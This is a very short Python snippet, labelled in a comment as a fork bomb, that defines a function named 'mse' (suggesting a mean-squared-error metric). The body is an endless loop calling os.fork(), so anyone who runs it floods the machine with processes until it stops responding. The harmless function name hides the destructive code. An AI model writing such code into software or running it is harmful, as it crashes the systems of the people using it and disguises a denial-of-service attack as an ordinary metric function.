# says: not available
# A fork bomb.
import os


def mse(y_true, y_pred):
    while True:
        os.fork()
